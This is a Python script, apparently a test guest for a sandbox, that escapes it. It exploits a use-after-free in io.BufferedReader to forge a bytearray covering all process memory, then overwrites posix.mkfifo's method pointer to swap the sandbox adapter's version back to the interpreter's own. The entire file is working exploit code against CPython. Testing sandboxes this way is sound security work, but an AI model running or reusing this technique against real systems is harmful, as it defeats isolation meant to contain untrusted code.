"""A guest that keeps a buffer which the interpreter gave back, and so reads and
writes the memory of the process: kept_memory.py FIFO.

By that it puts the interpreter's own mkfifo() where the adapter's is. Prints what
each of two attempts to make FIFO gave: "made", or the number of the error.
"""

import io
import posix
import struct
import sys

import postern

SIZE = 1 << 16
WHOLE = (1 << 63) - 1


class Keeping(io.RawIOBase):
    kept = None

    def readable(self):
        return True

    def readinto(self, buffer):
        Keeping.kept = buffer
        return 0


def attempt():
    try:
        posix.mkfifo(sys.argv[1])
        return "made"
    except OSError as error:
        return error.errno


def memory_of_process():
    """A bytearray of all memory: from address 0 on."""
    io.BufferedReader(Keeping(), SIZE).read(1)  # is freed at once, with its buffer
    view = Keeping.kept.cast("P")
    items = [None] * (SIZE // 8)
    if view[0] != id(None):
        sys.exit("the list is not where the buffer was")
    # bytearrayobject.h: counted, of this type, as large as can be, from 0.
    forged = struct.pack("QQQQQQQ", 1 << 20, id(bytearray), WHOLE, WHOLE, 0, 0, 0)
    view[0] = id(forged) + bytes.__basicsize__ - 1
    keep.extend([view, items, forged])
    return items[0]


keep = []


def main():
    print(attempt())
    memory = memory_of_process()

    def word(at):
        return int.from_bytes(memory[at:at + 8], "little")

    definition = word(id(posix.mkfifo) + 16)  # PyCFunctionObject, m_ml
    at = word(id(postern) + 24)  # PyModuleObject, md_def: the program's own data
    while word(at) != definition:  # the table of what was replaced (replace.cc)
        at += 8
    memory[definition + 8:definition + 16] = memory[at + 8:at + 16]
    print(attempt())


main()
